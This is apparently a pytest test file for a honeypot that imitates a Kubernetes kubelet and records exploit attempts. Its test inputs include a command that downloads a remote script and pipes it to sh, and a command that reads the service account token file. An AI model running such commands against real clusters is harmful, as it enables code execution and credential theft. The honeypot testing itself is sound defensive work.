"""The kubelet: what scanners ask, and commands by every way that worms know."""

from __future__ import annotations

import json
from typing import Any

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._websocket import BINARY, CLOSE, MESSAGE_BYTES_MAX, PING, TEXT, MessageReader, accepted, encode
from eudaemon.protocols.kubelet import Kubelet
from eudaemon.protocols.kubelet.node import node_of
from eudaemon.protocols.kubelet.room import READ_ONLY_PORT
from eudaemon.testing.script import Table, visit
from eudaemon.wire import PeerError, Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed

HOST = Host.from_seed(Seed(b"test"))
NODE = node_of(HOST)
POD = NODE.pods[0]
PLACE = f"{POD.namespace}/{POD.name}/{POD.container}"
UPGRADE = ("Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: v4.channel.k8s.io\r\n")  # fmt: skip


def talk(memory: Memory | None = None, *, port: int = 10250, tls: bool = True, host: Host = HOST) -> Table:
    return Table(Kubelet(visit(host=host, port=port, tls=tls, memory=memory))).open()


def ask(table: Table, method: str, path: str, body: bytes = b"", head: str = "", split: int = 0) -> tuple[int, bytes]:
    text = f"{method} {path} HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n{head}\r\n"
    before = len(table.sent)
    table.say(text.encode() + body, split)
    table.wait(0.1)
    answer = table.sent[before:]
    return int(answer.split(b" ")[1]) if answer else 0, answer.partition(b"\r\n\r\n")[2]


def masked(data: bytes, kind: int = BINARY, *, final: bool = True) -> bytes:
    """Return a client's frame."""
    whole = encode(data, kind)
    size = len(whole) - len(data)
    head = bytes((whole[0] & (0xFF if final else 0x7F), whole[1] | 0x80)) + whole[2:size]
    mask = b"\x5a\xa5\x0f\xf0"
    return head + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data))


def messages(data: bytes) -> list[tuple[int, bytes]]:
    """Return the messages in a server's frames."""
    found = []
    while data:
        kind, length, at = data[0] & 15, data[1], 2
        if length == 126:
            length, at = int.from_bytes(data[2:4], "big"), 4
        elif length == 127:
            length, at = int.from_bytes(data[2:10], "big"), 10
        found.append((kind, data[at : at + length]))
        data = data[at + length :]
    return found


def exploits(table: Table) -> list[tuple[str, str]]:
    return [(fact.name, fact.command) for fact in table.facts if isinstance(fact, ExploitRecognised)]


@pytest.mark.parametrize("split", [0, 1])
def test_what_scanners_ask(split: int) -> None:
    table = talk()
    assert ask(table, "GET", "/healthz", split=split) == (200, b"ok")
    told: dict[str, Any] = json.loads(ask(table, "GET", "/pods", split=split)[1])
    assert told["kind"] == "PodList"
    assert [row["metadata"]["name"] for row in told["items"]] == [pod.name for pod in NODE.pods]
    assert ask(table, "GET", "/runningpods/")[0] == ask(table, "GET", "/stats/summary")[0] == 200
    assert f'git_version="{NODE.version}"'.encode() in ask(table, "GET", "/metrics")[1]
    assert ask(table, "GET", f"/containerLogs/{PLACE}") == (200, b"")
    assert ask(table, "GET", "/") == (404, b"404 page not found\n")


def test_no_two_installations_are_alike() -> None:
    nodes = [node_of(Host.from_seed(Seed(b"%d" % n))) for n in range(24)]
    assert len({node.pods for node in nodes}) == len({node.token() for node in nodes}) == 24
    assert len({node.name for node in nodes}) > 8


def test_a_command_is_run_and_shown() -> None:
    table = talk()
    assert ask(table, "POST", f"/run/{PLACE}", b"cmd=id+-u%3B%20echo%20%25") == (200, b"0\n%\n")
    assert ask(table, "POST", f"/run/{PLACE}?cmd=hostname")[1] == NODE.inside.name.encode() + b"\n"
    token = ask(table, "POST", f"/run/{PLACE}", b"cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token")[1]
    assert token == NODE.token()
    assert token.count(b".") == 2
    assert exploits(table)[0] == ("kubelet-run", "id -u; echo %")
    assert CommandEntered("id -u; echo %") in table.facts
    assert ask(table, "POST", "/run/default/nothing/x", b"cmd=id") == (404, b'pod "nothing" does not exist\n')
    assert exploits(table)[-1] == ("kubelet-run", "id"), "what it wanted is known all the same"


def test_a_download_holds_the_answer_up() -> None:
    table = talk()
    body = b"cmd=wget -qO- http://198.51.100.7/x | sh"
    assert ask(table, "POST", f"/run/{PLACE}", body) == (0, b"")
    assert ask(table, "GET", "/healthz") == (0, b"")
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    table.answer("ok", b"echo done\n")
    assert b"\r\n\r\ndone\nHTTP/1.1 200 OK" in table.sent or table.sent.endswith(b"\r\n\r\ndone\n")
    assert table.over


def test_an_execution_over_a_websocket() -> None:
    table = talk()
    status, said = ask(
        table, "GET", f"/exec/{PLACE}?command=sh&command=-c&command=echo+hi%3B+exit+3&output=1", head=UPGRADE
    )
    assert status == 101
    assert b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n" in table.sent
    *_, (kind, output), (_, end), (last, reason) = messages(said)
    assert (kind, output, last, reason) == (BINARY, b"\x01hi\n", CLOSE, b"\x03\xe8")
    assert json.loads(end[1:])["details"] == {"causes": [{"reason": "ExitCode", "message": "3"}]}
    assert exploits(table) == [("kubelet-exec", "sh -c 'echo hi; exit 3'")]
    assert table.over


@pytest.mark.parametrize("split", [0, 1])
def test_a_shell_over_a_websocket(split: int) -> None:
    table = talk()
    status, said = ask(table, "GET", f"/exec/{PLACE}?command=sh&input=1&output=1&tty=1", head=UPGRADE)
    assert (status, messages(said)) == (101, [(BINARY, b"\x01/ # ")])
    answer = table.say(masked(b"\0id -u\r") + masked(b"ping", PING) + masked(b"\4{}", TEXT), split)
    found = messages(answer)
    assert b"".join(text[1:] for kind, text in found if kind == BINARY) == b"id -u\r\n0\r\n/ # "
    assert (10, b"ping") in found
    assert messages(table.say(masked(b"\0ex", final=False) + masked(b"it\r", 0), split))[-1] == (CLOSE, b"\x03\xe8")
    assert table.over


def test_an_execution_in_two_steps() -> None:
    """As before 1.20: asked for with POST, and joined at the place that the answer names."""
    memory = Memory()
    table = talk(memory)
    status, _ = ask(
        table,
        "POST",
        f"/exec/{PLACE}?command=id&command=-u&output=1",
        head="Connection: upgrade\r\nUpgrade: SPDY/3.1\r\n",
    )
    assert status == 302
    place = table.sent.partition(b"Location: ")[2].partition(b"\r\n")[0].decode()
    status, said = ask(talk(memory), "GET", place, head=UPGRADE)
    assert (status, messages(said)[0]) == (101, (BINARY, b"\x010\n"))
    assert ask(talk(memory), "GET", "/cri/exec/nothing", head=UPGRADE)[0] == 404
    assert ask(talk(), "GET", place, head=UPGRADE)[0] == 404


def test_what_is_asked_wrongly() -> None:
    table = talk()
    assert ask(table, "POST", f"/exec/{PLACE}?command=id")[0] == 400
    assert ask(table, "POST", f"/exec/{PLACE}")[0] == 400
    assert ask(table, "POST", "/exec/a/b/c?command=id")[0] == 404
    table = talk(tls=False)
    assert ask(table, "GET", "/pods") == (400, b"Client sent an HTTP request to an HTTPS server.\n")
    assert table.over
    table = talk(port=READ_ONLY_PORT, tls=False)
    assert ask(table, "GET", "/pods")[0] == 200
    assert ask(table, "POST", f"/run/{PLACE}", b"cmd=id")[0] == 404
    assert ask(talk(port=READ_ONLY_PORT + 10_000, tls=False), "GET", "/pods")[0] == 200


def test_frames() -> None:
    reader = MessageReader(Purse(4 * MESSAGE_BYTES_MAX))
    for size in (0, 1, 125, 126, 127, 65_535, 65_536, MESSAGE_BYTES_MAX):
        assert reader.feed(masked(b"x" * size)) == [(BINARY, b"x" * size)]
    assert accepted(b"dGhlIHNhbXBsZSBub25jZQ==") == b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=", "RFC 6455 section 1.3"
    for wrong in (encode(b"unmasked"), b"\xf2\x80", masked(b"x" * (MESSAGE_BYTES_MAX + 1))):
        with pytest.raises(PeerError):
            MessageReader(Purse(4 * MESSAGE_BYTES_MAX)).feed(wrong)
    reader = MessageReader(Purse(4 * MESSAGE_BYTES_MAX))
    reader.feed(masked(b"x" * MESSAGE_BYTES_MAX, final=False))
    with pytest.raises(PeerError):
        reader.feed(masked(b"x", 0))
    reader = MessageReader(Purse(100))
    assert reader.feed(masked(b"x" * 100)[:99]) == []
    with pytest.raises(PeerError):
        reader.feed(b"xx")


def test_whose_conversation_it_is() -> None:
    for first, claim in ((b"POST /run/a/b/c HTTP/1.1", Claim.YES), (b"GET /pods HTTP/1.1", Claim.YES),
                         (b"PO", Claim.UNSURE),
                         (b"GET / HTTP/1.1", Claim.UNSURE), (b"\x16\x03", Claim.NO)):  # fmt: skip
        assert Kubelet.claim(first) is claim, first
